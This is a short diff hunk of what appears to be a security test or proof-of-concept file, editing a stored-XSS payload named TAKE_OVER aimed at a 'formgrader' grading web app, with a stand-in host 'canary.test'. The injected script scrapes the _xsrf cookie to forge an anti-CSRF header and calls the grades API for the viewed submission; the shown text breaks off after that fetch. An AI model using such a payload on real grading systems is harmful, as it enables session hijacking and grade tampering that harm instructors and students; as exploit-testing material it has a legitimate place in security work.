@@ -10,7 +10,7 @@ HOST = "http://canary.test"
 TAKE_OVER = """
 <script>
 (async () => {
-  const base = location.pathname.split("/formgrader/")[0];
+  const base = location.origin + location.pathname.split("/formgrader/")[0];
   const headers = {"X-XSRFToken": (document.cookie.match(/_xsrf=([^;]*)/) || [])[1] || ""};
   const id = location.pathname.match(/submissions\\/([^/]+)/)[1];
   const grades = await (await fetch(`${base}/formgrader/api/grades?submission_id=${id}`)).json();
